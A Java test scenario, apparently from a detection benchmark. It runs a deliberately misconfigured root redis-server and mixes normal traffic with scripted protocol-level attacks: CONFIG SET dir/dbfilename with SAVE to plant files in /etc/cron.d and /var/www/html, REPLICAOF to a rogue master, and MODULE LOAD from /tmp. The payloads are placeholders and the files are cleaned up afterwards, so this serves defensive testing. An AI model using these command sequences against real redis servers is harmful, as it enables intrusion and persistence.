package dev.vigil.bench.scenario;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.TimeUnit;

/**
 * Debian's redis-server, run as root with its protected configs and MODULE command enabled
 * (the misconfiguration the classic redis attacks need), in a cgroup of its own. Normal:
 * strings, counters, hashes, lists and expiries over RESP, keys and values of varying size.
 * Periodic job: BGSAVE (a forked child writes the snapshot). Restart: SIGTERM and start.
 * Attack, through the protocol alone: a cron file and a web shell written with CONFIG SET
 * dir/dbfilename and SAVE, replication to a rogue master, a module loaded from /tmp.
 */
final class RedisScenario implements Scenario {
    static final int PORT = 6379, ATTACKER = 4444;
    private Process redis, listener;
    private Path module;
    private final String tag = "vigil-sc-" + ProcessHandle.current().pid();

    public String name() { return "redis"; }

    public String description() {
        return "redis-server (Debian's) as root with protected configs and MODULE enabled, abused through its protocol";
    }

    public String unavailable() {
        if (!Files.isExecutable(Path.of("/usr/bin/redis-server"))) return "redis-server is not installed (apt-get install redis-server)";
        if (!Files.isDirectory(Path.of("/etc/cron.d"))) return "/etc/cron.d does not exist (the attack's first target)";
        if (!Files.isDirectory(Path.of("/var/www/html"))) return "/var/www/html does not exist (the attack's second target; apt-get install nginx)";
        return null;
    }

    public void setUp(Env env) throws Exception {
        Path data = Files.createDirectories(env.dir().resolve("redis"));
        Files.writeString(env.dir().resolve("redis.conf"), """
                port %d
                bind 127.0.0.1
                protected-mode no
                daemonize no
                dir %s
                dbfilename dump.rdb
                save ""
                appendonly no
                logfile %s/redis.log
                enable-protected-configs yes
                enable-module-command yes
                """.formatted(PORT, data, env.dir()));
        start(env);
        listener = env.listener(ATTACKER);
    }

    private void start(Env env) throws Exception {
        redis = env.start(env.cgroup("redis"), env.dir().resolve("redis.out"), "/usr/bin/redis-server", env.dir().resolve("redis.conf").toString());
        for (int i = 0; i < 100; i++) {
            if (command(env, "PING").contains("PONG")) return;
            if (!redis.isAlive()) break;
            Thread.sleep(100);
        }
        throw new IllegalStateException("redis-server did not start: " + Files.readString(env.dir().resolve("redis.out")));
    }

    /** RESP: one array of bulk strings per command. */
    static String resp(List<List<String>> commands) {
        StringBuilder b = new StringBuilder();
        for (List<String> c : commands) {
            b.append('*').append(c.size()).append("\r\n");
            for (String a : c) b.append('$').append(a.getBytes(StandardCharsets.UTF_8).length).append("\r\n").append(a).append("\r\n");
        }
        return b.toString();
    }

    /** Sends commands (words split on spaces) then QUIT; the replies. */
    static String command(Env env, String... commands) throws Exception {
        List<List<String>> c = new ArrayList<>();
        for (String s : commands) c.add(List.of(s.split(" ")));
        c.add(List.of("QUIT"));
        return Traffic.once(env, PORT, resp(c));
    }

    public Request normal(Random rnd) {
        List<List<String>> c = new ArrayList<>();
        int n = 1 + rnd.nextInt(4);
        for (int i = 0; i < n; i++) {
            String user = "user:" + rnd.nextInt(500), page = "hits:/page/" + rnd.nextInt(40);
            c.add(switch (rnd.nextInt(9)) {
                case 0 -> List.of("SET", user, "x".repeat(1 + rnd.nextInt(300)));
                case 1 -> List.of("GET", user);
                case 2 -> List.of("INCR", page);
                case 3 -> List.of("HSET", "session:" + Integer.toHexString(rnd.nextInt()), "user", user, "seen", Long.toString(System.currentTimeMillis()));
                case 4 -> List.of("EXPIRE", "session:" + Integer.toHexString(rnd.nextInt()), Integer.toString(60 + rnd.nextInt(600)));
                case 5 -> List.of("LPUSH", "queue:jobs", "job-" + rnd.nextInt(100_000));
                case 6 -> List.of("LRANGE", "queue:jobs", "0", Integer.toString(rnd.nextInt(20)));
                case 7 -> List.of("MGET", user, "user:" + rnd.nextInt(500), "user:" + rnd.nextInt(500));
                default -> List.of("DEL", "user:" + rnd.nextInt(500));
            });
        }
        c.add(List.of("QUIT"));
        return new Request.Raw(PORT, resp(c));
    }

    public void periodic(Env env, int n) throws Exception {
        command(env, "BGSAVE");
    }

    public void restart(Env env) throws Exception {
        redis.destroy(); // SIGTERM: redis shuts down cleanly
        if (!redis.waitFor(20, TimeUnit.SECONDS)) redis.destroyForcibly().waitFor();
        env.kill(env.cgroup("redis"));
        start(env);
    }

    /** A file written where redis must not: CONFIG SET dir and dbfilename, SAVE, then the settings restored. */
    private Step write(String name, String dir, String file) {
        return new Step(name, env -> command(env, "CONFIG SET dir " + dir, "CONFIG SET dbfilename " + file, "SET payload *_*_*_*_*", "SAVE",
                "CONFIG SET dir " + env.dir().resolve("redis"), "CONFIG SET dbfilename dump.rdb", "DEL payload"));
    }

    public List<Step> attack() {
        return List.of(
                write("a cron job planted: SAVE into /etc/cron.d", "/etc/cron.d", tag),
                write("a web shell written: SAVE into /var/www/html", "/var/www/html", tag + ".php"),
                new Step("replication to a rogue master: REPLICAOF 127.0.0.1 " + ATTACKER, env -> {
                    command(env, "REPLICAOF 127.0.0.1 " + ATTACKER);
                    Thread.sleep(1500);
                    command(env, "REPLICAOF NO ONE");
                }),
                new Step("a module loaded from /tmp: MODULE LOAD", env -> {
                    module = Path.of("/tmp/." + tag + ".so");
                    Files.copy(library(), module);
                    Env.exec("chmod", "755", module.toString()); // redis loads only executable modules
                    command(env, "MODULE LOAD " + module);
                }));
    }

    /** A shared library to play the attacker's module (it has no RedisModule_OnLoad, so redis opens, maps and refuses it). */
    private static Path library() throws IOException {
        for (String d : List.of("/lib/x86_64-linux-gnu", "/lib/aarch64-linux-gnu", "/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu")) {
            Path p = Path.of(d, "libz.so.1");
            if (Files.exists(p)) return p.toRealPath();
        }
        throw new IOException("no libz.so.1 to play the module");
    }

    public void tearDown(Env env) throws IOException, InterruptedException {
        for (Process p : new Process[] {redis, listener}) {
            if (p == null) continue;
            p.destroy();
            if (!p.waitFor(10, TimeUnit.SECONDS)) p.destroyForcibly();
        }
        Files.deleteIfExists(Path.of("/etc/cron.d", tag));
        Files.deleteIfExists(Path.of("/var/www/html", tag + ".php"));
        if (module != null) Files.deleteIfExists(module);
        try (var temps = Files.newDirectoryStream(Path.of("/etc/cron.d"), "temp-*.rdb")) { // a SAVE cut short leaves its temporary file
            for (Path t : temps) Files.deleteIfExists(t);
        }
    }
}
